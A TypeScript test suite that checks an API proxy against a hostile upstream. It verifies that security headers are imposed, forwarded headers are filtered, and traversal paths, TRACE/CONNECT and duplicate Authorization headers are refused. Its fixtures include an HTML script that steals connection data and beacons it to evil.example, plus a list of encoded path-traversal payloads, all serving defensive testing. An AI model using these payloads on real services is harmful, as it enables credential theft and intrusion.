import { connect as netConnect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { databaseKinds } from '../support/databases.js';
import {
  demoApiIntegration,
  type Lifecycle,
  proxyPath,
  rawRequest,
  startLifecycle,
} from '../support/lifecycle.js';
import type { TestService } from '../support/service.js';
import { signedInAgent } from '../support/user-agent.js';
import { type RecordingServer, startRecordingServer } from '../support/webhook-receiver.js';

/** What an API serving user content might answer: headers that act on whoever serves them, and HTML with script. */
const hostileHeaders: Record<string, string> = {
  'content-type': 'text/html; charset=utf-8',
  'content-security-policy': "default-src * 'unsafe-inline' 'unsafe-eval'",
  'x-frame-options': 'ALLOWALL',
  'x-content-type-options': 'none',
  'access-control-allow-origin': 'https://evil.example',
  'access-control-allow-credentials': 'true',
  'access-control-allow-methods': 'GET, POST, DELETE',
  'access-control-allow-headers': 'authorization',
  'access-control-expose-headers': '*',
  'cache-control': 'public, max-age=600, s-maxage=86400',
  'service-worker-allowed': '/',
  'set-cookie': 'nunq_session=planted; Path=/; HttpOnly',
  'clear-site-data': '"cookies", "storage"',
  'strict-transport-security': 'max-age=0',
  'alt-svc': 'h2="evil.example:443"',
  refresh: '0; url=https://evil.example/',
  'x-accel-redirect': '/internal/secrets',
  'www-authenticate': 'Basic realm="Sign in to nunq-connect"',
  // What the platform does need from an API.
  etag: '"v7"',
  'x-request-id': 'req-123',
  'x-ratelimit-remaining': '41',
};
const hostileBody =
  '<!doctype html><html><body><script>fetch("/api/v1/connections",{credentials:"include"}).then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>';

/** One HTTP/1.1 exchange over a raw socket, exactly as written (repeated headers, any method). */
function rawExchange(
  baseUrl: string,
  head: string,
): Promise<{ status: number; headers: Map<string, string[]>; text: string }> {
  const { hostname, port } = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    const socket = netConnect(Number(port), hostname, () =>
      socket.write(`${head}\r\nConnection: close\r\n\r\n`),
    );
    const chunks: Buffer[] = [];
    socket.on('data', (c: Buffer) => chunks.push(c));
    socket.on('error', reject);
    socket.on('close', () => {
      const text = Buffer.concat(chunks).toString('latin1');
      const [statusLine = '', ...lines] = text.split('\r\n\r\n')[0]!.split('\r\n');
      const headers = new Map<string, string[]>();
      for (const line of lines) {
        const colon = line.indexOf(':');
        const name = line.slice(0, colon).toLowerCase();
        headers.set(name, [...(headers.get(name) ?? []), line.slice(colon + 1).trim()]);
      }
      resolve({ status: Number(statusLine.split(' ')[1] ?? 0), headers, text });
    });
  });
}

describe.each(databaseKinds)('the proxy against a hostile upstream, on %s', (kind) => {
  let lc: Lifecycle;
  let svc: TestService;
  let upstream: RecordingServer;
  let hostile: string;
  let items: string;
  let bearer: string;

  beforeAll(async () => {
    upstream = await startRecordingServer({
      answer: (got) =>
        got.url.startsWith('/v1/page')
          ? { status: 200, headers: hostileHeaders, body: hostileBody }
          : undefined,
    });
    lc = await startLifecycle({
      kind,
      webhooks: false,
      extraIntegrations: [demoApiIntegration('hostile', 'Hostile', `${upstream.url}/v1`)],
    });
    svc = await lc.startService({ background: false });
    hostile = await lc.connect(svc, 'u-alice', 'alice', 'hostile');
    items = await lc.connect(svc, 'u-alice');
    bearer = `Bearer ${await svc.token('u-alice')}`;
  });

  afterAll(async () => {
    await lc?.close();
    await upstream?.close();
  });

  it('answers with our security headers: the HTML runs no script, is never framed, grants no CORS, is never cached shared, plants no cookie', async () => {
    const r = await rawRequest(svc.url, proxyPath(hostile, 'page'), {
      authorization: bearer,
      origin: 'https://evil.example',
    });
    expect(r.status, r.body).toBe(200);
    expect(r.body).toBe(hostileBody);
    expect(r.headers['content-type']).toBe('text/html; charset=utf-8');
    const csp = String(r.headers['content-security-policy']);
    const directives = csp.split(';').map((d) => d.trim());
    expect(directives).toContain('sandbox');
    expect(directives).toContain("default-src 'none'");
    expect(directives).toContain("frame-ancestors 'none'");
    expect(csp).not.toContain('allow-scripts');
    expect(csp).not.toContain('unsafe-inline');
    expect(r.headers['x-frame-options']).toBe('DENY');
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    expect(Object.keys(r.headers).filter((h) => h.startsWith('access-control-'))).toEqual([]);
    const cacheControl = String(r.headers['cache-control']);
    expect(cacheControl).toMatch(/^(private|no-store)\b/);
    expect(cacheControl).not.toMatch(/public|s-maxage/);
    for (const gone of [
      'service-worker-allowed',
      'set-cookie',
      'clear-site-data',
      'strict-transport-security',
      'alt-svc',
      'refresh',
      'x-accel-redirect',
      'www-authenticate',
    ]) {
      expect(r.headers[gone], gone).toBeUndefined();
    }
    expect(r.headers.etag).toBe('"v7"');
    expect(r.headers['x-request-id']).toBe('req-123');
    expect(r.headers['x-ratelimit-remaining']).toBe('41');
  });

  it('forwards exactly the allowed request headers: no credentials, origin, referer or forwarding of ours', async () => {
    const before = upstream.received.length;
    const r = await rawRequest(svc.url, proxyPath(hostile, 'who'), {
      authorization: bearer,
      cookie: 'nunq_session=caller-cookie; other=1',
      'x-csrf-token': 'caller-csrf',
      origin: 'https://evil.example',
      referer: 'https://evil.example/page',
      forwarded: 'for=10.0.0.1;host=evil.example',
      via: '1.1 evil',
      'x-forwarded-for': '10.0.0.1',
      'x-forwarded-host': 'evil.example',
      'x-forwarded-proto': 'http',
      'x-forwarded-port': '80',
      'x-real-ip': '10.0.0.1',
      'x-original-url': '/admin',
      'x-rewrite-url': '/admin',
      'x-http-method-override': 'TRACE',
      'max-forwards': '0',
      'proxy-authorization': 'Basic abc',
      'x-custom': 'kept',
      accept: 'application/json',
    });
    expect(r.status, r.body).toBe(200);
    expect(upstream.received.length).toBe(before + 1);
    const got = upstream.received.at(-1)!;
    expect(got.method).toBe('GET');
    expect(got.url).toBe('/v1/who');
    expect(Object.keys(got.headers).sort()).toEqual([
      'accept',
      'authorization',
      'connection',
      'host',
      'x-custom',
    ]);
    expect(got.headers['x-custom']).toBe('kept');
    expect(got.headers.host).toBe(new URL(upstream.url).host);
    const issued = lc.tokenCalls.map((c) => c.accessToken).filter((t): t is string => t !== undefined);
    expect(issued.map((t) => `Bearer ${t}`)).toContain(got.headers.authorization);
  });

  it('refuses a session cookie alone (and no credentials, and a bad bearer) with 401 and a Bearer challenge, reaching no one', async () => {
    const before = upstream.received.length;
    const ua = await signedInAgent(svc, 'u-alice');
    const cookie = Object.entries(ua.cookies(svc.url))
      .map(([k, v]) => `${k}=${v}`)
      .join('; ');
    expect(cookie).not.toBe('');
    // The cookie is a valid session: the API answers it.
    expect((await rawRequest(svc.url, `/api/v1/connections/${hostile}`, { cookie })).status).toBe(200);
    const attempts: Array<Record<string, string>> = [
      { cookie },
      {},
      { authorization: 'Bearer not-a-jwt' },
      { authorization: 'Basic YTpi', cookie },
    ];
    for (const headers of attempts) {
      const r = await rawRequest(svc.url, proxyPath(hostile, 'page'), headers);
      expect(r.status, JSON.stringify(headers)).toBe(401);
      expect(r.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(String(r.headers['www-authenticate'])).toMatch(/^Bearer\b/);
      expect(JSON.parse(r.body)).toMatchObject({ status: 401, code: 'unauthenticated' });
    }
    expect(upstream.received.length).toBe(before);
  });

  it('answers TRACE with 405 and Allow, and never reaches the upstream; CONNECT never reaches it either', async () => {
    const before = { upstream: upstream.received.length, api: lc.api.counters.requests };
    for (const [id, rest] of [
      [hostile, 'page'],
      [items, 'items'],
    ] as const) {
      const r = await rawRequest(svc.url, proxyPath(id, rest), { authorization: bearer }, 'TRACE');
      expect(r.status, r.body).toBe(405);
      expect(r.headers['content-type']).toMatch(/^application\/problem\+json/);
      const allow = String(r.headers.allow).split(/,\s*/);
      expect(allow).toEqual(expect.arrayContaining(['GET', 'POST', 'DELETE']));
      expect(allow).not.toContain('TRACE');
      expect(r.body).not.toContain('Bearer');
    }
    const root = await rawRequest(
      svc.url,
      `/api/v1/connections/${hostile}/proxy`,
      { authorization: bearer },
      'TRACE',
    );
    expect(root.status).toBe(405);
    const tunnel = await rawExchange(
      svc.url,
      `CONNECT /api/v1/connections/${hostile}/proxy/page HTTP/1.1\r\nHost: x\r\nAuthorization: ${bearer}`,
    ).catch(() => ({ status: 0, headers: new Map(), text: '' }));
    expect(tunnel.status === 0 || tunnel.status >= 400, tunnel.text).toBe(true);
    expect(upstream.received.length).toBe(before.upstream);
    expect(lc.api.counters.requests).toBe(before.api);
  });

  const badPaths = [
    '%e0%80%ae%e0%80%ae/x',
    '%f0%80%80%ae%f0%80%80%ae/x',
    '%u002e%u002e/x',
    '%%32%65%%32%65/x',
    '..%20/x',
    '..%20',
    '%20../x',
    '...//x',
    '....//x',
    '%ef%bc%8e%ef%bc%8e/x',
    '%ef%bc%8e%ef%bc%8e%ef%bc%8fx',
    '..%c2%a0/x',
    '%c0%ae%c0%ae/x',
    '%252e%252e/x',
    '..%5cx',
    '..;/x',
    'a%zz',
    '100%',
    'a%00b',
  ];
  it.each(badPaths)('refuses the path %s with 400 problem+json, asking no upstream', async (rest) => {
    const before = { upstream: upstream.received.length, api: lc.api.counters.requests };
    for (const id of [hostile, items]) {
      const r = await rawRequest(svc.url, `/api/v1/connections/${id}/proxy/${rest}`, {
        authorization: bearer,
      });
      expect(r.status, r.body).toBe(400);
      expect(r.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
    expect(upstream.received.length).toBe(before.upstream);
    expect(lc.api.counters.requests).toBe(before.api);
  });

  it('still forwards ordinary paths as they were sent', async () => {
    for (const rest of [
      'a%20b',
      '%C3%A9t%C3%A9',
      'compare/main...feature',
      '.well-known/x',
      'items;v=1?q=%2e%2e',
    ]) {
      const r = await rawRequest(svc.url, proxyPath(hostile, rest), { authorization: bearer });
      expect(r.status, `${rest}: ${r.body}`).toBe(200);
      expect(upstream.received.at(-1)!.url).toBe(`/v1/${rest}`);
    }
  });

  it('refuses two Authorization headers with 400 wherever identity is read, and acts on neither', async () => {
    const before = upstream.received.length;
    const other = `Bearer ${await svc.token('u-mallory')}`;
    for (const pair of [
      [bearer, other],
      [other, bearer],
      [bearer, bearer],
    ]) {
      const proxied = await rawExchange(
        svc.url,
        `GET ${proxyPath(hostile, 'who')} HTTP/1.1\r\nHost: x\r\nAuthorization: ${pair[0]}\r\nauthorization: ${pair[1]}`,
      );
      expect(proxied.status, proxied.text).toBe(400);
      expect(proxied.headers.get('content-type')?.[0]).toMatch(/^application\/problem\+json/);
      const deleted = await rawExchange(
        svc.url,
        `DELETE /api/v1/connections/${items} HTTP/1.1\r\nHost: x\r\nAuthorization: ${pair[0]}\r\nAuthorization: ${pair[1]}`,
      );
      expect(deleted.status, deleted.text).toBe(400);
      expect(deleted.text).toContain('"code":"bad_request"');
    }
    // The metrics scrape reads the header itself: the same rule.
    const metrics = await rawExchange(
      svc.url,
      `GET /metrics HTTP/1.1\r\nHost: x\r\nAuthorization: ${bearer}\r\nAuthorization: Bearer scrape`,
    );
    expect(metrics.status, metrics.text).toBe(400);
    expect(upstream.received.length).toBe(before);
    // The connection is still there and usable.
    expect((await svc.api('u-alice', `/api/v1/connections/${items}`)).status).toBe(200);
    expect((await svc.api('u-alice', proxyPath(items))).status).toBe(200);
  });
});
